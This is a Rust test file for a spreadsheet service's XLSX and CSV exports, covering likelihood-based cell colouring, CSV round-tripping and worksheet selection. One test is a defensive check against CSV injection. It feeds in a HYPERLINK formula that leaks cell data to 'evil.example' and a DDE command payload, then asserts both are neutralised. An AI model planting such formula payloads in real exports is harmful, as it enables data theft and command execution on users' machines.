//! Exports. XLSX read with calamine (values) and unzipped (styles): cells whose
//! completion carried likelihoods, appended with `color_by_likelihood=true`, are filled
//! green (≥ 0.9), amber (≥ 0.6) or red, with a legend. CSV round-trips through the `csv`
//! crate's reader.
//!
//! (Item 8 of the test plan.)

use std::io::{Cursor, Read};

use calamine::{Data, Reader, Xlsx};
use serde_json::json;

use crate::common::Relay;
use crate::helpers::{append, completion, export, grid, new_sheet, rows, sink_path};

const GREEN: &str = "C6EFCE";
const AMBER: &str = "FFEB9C";
const RED: &str = "FFC7CE";

fn zip_text(bytes: &[u8], name: &str) -> String {
    let mut archive = zip::ZipArchive::new(Cursor::new(bytes)).expect("an XLSX is a zip");
    let mut text = String::new();
    archive
        .by_name(name)
        .unwrap_or_else(|_| panic!("no {name}"))
        .read_to_string(&mut text)
        .unwrap();
    text
}

/// The `<parent …>…</parent>` block of `xml`.
fn block<'a>(xml: &'a str, parent: &str) -> &'a str {
    let start = xml.find(&format!("<{parent}")).unwrap_or_else(|| panic!("no <{parent}>"));
    let end = start + xml[start..].find(&format!("</{parent}>")).expect("closed");
    &xml[start..end]
}

/// The start tags `<tag …>` (attributes only) in `xml`, in order.
fn start_tags<'a>(xml: &'a str, tag: &str) -> Vec<&'a str> {
    let open = format!("<{tag}");
    let mut out = Vec::new();
    let mut rest = xml;
    while let Some(at) = rest.find(&open) {
        let tail = &rest[at..];
        let end = tail.find('>').expect("tag end") + 1;
        if matches!(tail.as_bytes()[open.len()], b' ' | b'>' | b'/') {
            out.push(&tail[..end]);
        }
        rest = &tail[end..];
    }
    out
}

fn attr<'a>(tag: &'a str, name: &str) -> Option<&'a str> {
    let key = format!(" {name}=\"");
    let at = tag.find(&key)? + key.len();
    Some(&tag[at..at + tag[at..].find('"')?])
}

/// The solid fill colour (`RRGGBB`) of cell `r` of the first worksheet, if any.
fn fill_of(xlsx: &[u8], r: &str) -> Option<String> {
    let sheet = zip_text(xlsx, "xl/worksheets/sheet1.xml");
    let styles = zip_text(xlsx, "xl/styles.xml");
    let cell = start_tags(block(&sheet, "sheetData"), "c")
        .into_iter()
        .find(|c| attr(c, "r") == Some(r))
        .unwrap_or_else(|| panic!("no cell {r} in {sheet}"));
    let xf_index: usize = attr(cell, "s").unwrap_or("0").parse().unwrap();
    let xf = start_tags(block(&styles, "cellXfs"), "xf")[xf_index];
    let fill_id: usize = attr(xf, "fillId").unwrap_or("0").parse().unwrap();
    let fills: Vec<&str> = block(&styles, "fills").split("<fill>").skip(1).collect();
    let fill = fills[fill_id];
    if !fill.contains("patternType=\"solid\"") {
        return None;
    }
    let fg = start_tags(fill, "fgColor").first().and_then(|t| attr(t, "rgb"))?;
    Some(fg.strip_prefix("FF").unwrap_or(fg).to_string())
}

fn workbook(bytes: &[u8]) -> Xlsx<Cursor<Vec<u8>>> {
    calamine::open_workbook_from_rs(Cursor::new(bytes.to_vec())).expect("calamine opens it")
}

fn sheet_rows(bytes: &[u8], name: &str) -> Vec<Vec<Data>> {
    let range = workbook(bytes).worksheet_range(name).expect("worksheet");
    range.rows().map(<[Data]>::to_vec).collect()
}

fn s(v: &str) -> Data {
    Data::String(v.into())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn xlsx_shows_values_and_fills_cells_by_likelihood() {
    let relay = Relay::start("");
    let id = new_sheet(&relay, "Scored", None).await;
    let post = |parsed: serde_json::Value, likelihoods: serde_json::Value, colour: bool| {
        let (relay, id) = (&relay, &id);
        async move {
            let body = completion(parsed, likelihoods);
            let r = crate::helpers::post_keyed(relay, &sink_path(id, 0, Some(colour)), None, &body)
                .await;
            assert_eq!(r.status, 200, "{}", r.body);
        }
    };
    let l1 = json!({"name": 0.95, "amount": 0.7, "city": 0.2, "address": {"zip": 0.9}});
    post(json!({"name": "Ada", "amount": 42, "city": "Paris", "note": "n/a", "address": {"zip": "SW1A"}}), l1.clone(), true).await;
    // The same likelihoods without color_by_likelihood: no fills.
    post(json!({"name": "Bob", "amount": 7, "city": "Oslo", "note": "ok", "address": {"zip": "0150"}}), l1, false).await;
    // Boundaries: 0.6 amber, 0.59 red, 1 green; an empty value keeps its fill; 1.5 is no likelihood.
    let l3 = json!({"name": 0.6, "amount": 0.59, "city": 1, "note": 0.3, "address": {"zip": 1.5}});
    post(json!({"name": "Cy", "amount": -3.5, "city": "Köln, DE", "note": "", "address": {"zip": "=1+1"}}), l3, true).await;

    let r = export(&relay, &id, "format=xlsx").await;
    assert_eq!(r.status, 200, "{:?}", r.body);
    assert_eq!(
        r.header("content-type"),
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    );
    assert!(r.header("content-disposition").contains(&format!("{id}-0.xlsx")), "{:?}", r.headers);
    let xlsx = r.bytes;
    assert_eq!(workbook(&xlsx).sheet_names(), ["Sheet1", "Legend"]);

    let data = sheet_rows(&xlsx, "Sheet1");
    assert_eq!(data.len(), 4, "{data:?}");
    assert_eq!(data[0], ["name", "amount", "city", "note", "address.zip"].map(s));
    assert_eq!(data[1], [s("Ada"), Data::Float(42.0), s("Paris"), s("n/a"), s("SW1A")]);
    assert_eq!(data[2], [s("Bob"), Data::Float(7.0), s("Oslo"), s("ok"), s("0150")]);
    assert_eq!(data[3], [s("Cy"), Data::Float(-3.5), s("Köln, DE"), Data::Empty, s("=1+1")]);

    let expected = [
        ("A1", None),
        ("B1", None),
        ("E1", None),
        ("A2", Some(GREEN)),
        ("B2", Some(AMBER)),
        ("C2", Some(RED)),
        ("D2", None),
        ("E2", Some(GREEN)),
        ("A3", None),
        ("B3", None),
        ("C3", None),
        ("E3", None),
        ("A4", Some(AMBER)),
        ("B4", Some(RED)),
        ("C4", Some(GREEN)),
        ("D4", Some(RED)),
        ("E4", None),
    ];
    for (cell, fill) in expected {
        assert_eq!(fill_of(&xlsx, cell).as_deref(), fill, "fill of {cell}");
    }
    let styles = zip_text(&xlsx, "xl/styles.xml");
    for rgb in [GREEN, AMBER, RED] {
        assert!(styles.contains(&format!("rgb=\"FF{rgb}\"")), "{rgb} not in styles.xml");
    }
    let legend = sheet_rows(&xlsx, "Legend");
    let names: Vec<&Data> = legend.iter().skip(1).take(3).map(|r| &r[0]).collect();
    assert_eq!(names, [&s("Green"), &s("Amber"), &s("Red")], "{legend:?}");
    // Likelihoods stay out of the values and the CSV.
    assert_eq!(rows(&relay, &id, "Sheet1!A2:B2").await, grid(&[&["Ada", "42"]]));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn xlsx_without_likelihoods_has_no_fills_and_no_legend() {
    let relay = Relay::start("");
    let id = new_sheet(&relay, "Plain", None).await;
    append(&relay, &id, 0, json!({"a": "x", "b": "0.5"})).await;
    let xlsx = export(&relay, &id, "format=xlsx&worksheet_id=0").await.bytes;
    assert_eq!(workbook(&xlsx).sheet_names(), ["Sheet1"]);
    assert_eq!(sheet_rows(&xlsx, "Sheet1"), [[s("a"), s("b")], [s("x"), Data::Float(0.5)]]);
    for cell in ["A1", "B1", "A2", "B2"] {
        assert_eq!(fill_of(&xlsx, cell), None, "{cell}");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn csv_round_trips_through_a_csv_reader() {
    let relay = Relay::start("");
    let id = new_sheet(&relay, "Tricky", None).await;
    let tricky = [
        ("comma", "a,b"),
        ("quote", "say \"hi\""),
        ("newline", "line1\nline2"),
        ("crlf", "x\r\ny"),
        ("unicode", "café ☕ 東京 👋"),
        ("equation", "1+1=2"),
        ("spaces", "  padded  "),
        ("empty", ""),
        ("all", "\",\n\""),
    ];
    let first: serde_json::Map<String, serde_json::Value> =
        tricky.iter().map(|(k, v)| (k.to_string(), json!(v))).collect();
    append(&relay, &id, 0, serde_json::Value::Object(first)).await;
    append(&relay, &id, 0, json!({"comma": "plain", "unicode": "ß"})).await;

    let r = export(&relay, &id, "format=csv").await;
    assert_eq!(r.status, 200, "{:?}", r.body);
    assert!(r.header("content-type").starts_with("text/csv"), "{:?}", r.headers);
    assert!(r.header("content-disposition").contains(&format!("{id}-0.csv")), "{:?}", r.headers);
    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(r.bytes.as_slice());
    let records: Vec<Vec<String>> = reader
        .records()
        .map(|rec| rec.expect("valid CSV").iter().map(str::to_string).collect())
        .collect();
    let header: Vec<String> = tricky.iter().map(|(k, _)| k.to_string()).collect();
    let row1: Vec<String> = tricky.iter().map(|(_, v)| v.to_string()).collect();
    let mut row2 = vec![String::new(); tricky.len()];
    row2[0] = "plain".into();
    row2[4] = "ß".into();
    assert_eq!(records, vec![header, row1.clone(), row2]);
    // The same values as the values API gives.
    assert_eq!(rows(&relay, &id, "Sheet1!A2:I2").await, vec![row1]);
}

/// CSV injection (OWASP): a value, or a column name, that a spreadsheet program would run
/// as a formula gets a leading `'` in the CSV; numbers, however they were sent, stay
/// numbers; XLSX and the values API keep every value exact.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn csv_export_neutralises_formulas_and_keeps_numbers() {
    let relay = Relay::start("");
    let id = new_sheet(&relay, "Injected", None).await;
    let link = "=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Open\")";
    let sent = [
        ("link", json!(link)),
        ("dde", json!("=cmd|' /C calc'!A0")),
        ("plus", json!("+1+1")),
        ("minus", json!("-2+3")),
        ("at", json!("@SUM(A1:A2)")),
        ("tab", json!("\t=1+1")),
        ("cr", json!("\r=1+1")),
        ("number", json!(-5)),
        ("float", json!(-3.5)),
        ("text_number", json!("-5")),
        ("plain", json!("a=b")),
        ("=evil()", json!("x")),
    ];
    let body: serde_json::Map<String, serde_json::Value> =
        sent.iter().map(|(k, v)| (k.to_string(), v.clone())).collect();
    append(&relay, &id, 0, serde_json::Value::Object(body)).await;

    let csv = export(&relay, &id, "format=csv").await;
    assert_eq!(csv.status, 200, "{:?}", csv.body);
    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(csv.bytes.as_slice());
    let records: Vec<Vec<String>> = reader
        .records()
        .map(|rec| rec.expect("valid CSV").iter().map(str::to_string).collect())
        .collect();
    let mut header: Vec<&str> = sent.iter().map(|(k, _)| *k).collect();
    header[11] = "'=evil()";
    let row = [
        &format!("'{link}"),
        "'=cmd|' /C calc'!A0",
        "'+1+1",
        "'-2+3",
        "'@SUM(A1:A2)",
        "'\t=1+1",
        "'\r=1+1",
        "-5",
        "-3.5",
        "-5",
        "a=b",
        "x",
    ];
    assert_eq!(records, [header, row.to_vec()]);

    // XLSX: text stays exact text (never a formula), numbers are numbers.
    let xlsx = export(&relay, &id, "format=xlsx").await.bytes;
    let data = sheet_rows(&xlsx, "Sheet1");
    assert_eq!(data[0][11], s("=evil()"));
    assert_eq!(data[1][..3], [s(link), s("=cmd|' /C calc'!A0"), s("+1+1")]);
    assert_eq!(data[1][7..10], [Data::Float(-5.0), Data::Float(-3.5), Data::Float(-5.0)]);
    assert!(!zip_text(&xlsx, "xl/worksheets/sheet1.xml").contains("<f>"), "no formula cells");
    // The values API gives what was stored.
    assert_eq!(rows(&relay, &id, "Sheet1!A2:B2").await, grid(&[&[link, "=cmd|' /C calc'!A0"]]));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn exports_choose_the_worksheet_and_an_empty_one_is_empty() {
    let relay = Relay::start("");
    let sheet =
        crate::helpers::create_sheet(&relay, json!({"title": "W", "sheets": ["First", "Second"]}))
            .await;
    let id = crate::helpers::id_of(&sheet);
    append(&relay, &id, 1, json!({"only": "second"})).await;
    let first = export(&relay, &id, "format=csv").await;
    assert_eq!(first.status, 200);
    assert!(first.bytes.is_empty(), "worksheet 0 is empty: {:?}", first.bytes);
    let second = export(&relay, &id, "format=csv&worksheet_id=1").await;
    assert_eq!(String::from_utf8(second.bytes).unwrap(), "only\r\nsecond\r\n");
    let xlsx = export(&relay, &id, "format=xlsx&worksheet_id=1").await.bytes;
    assert_eq!(sheet_rows(&xlsx, "Second"), [[s("only")], [s("second")]]);
    let missing = export(&relay, &id, "format=csv&worksheet_id=5").await;
    crate::helpers::assert_error(&missing, 404, "not_found", Some("worksheet"));
}
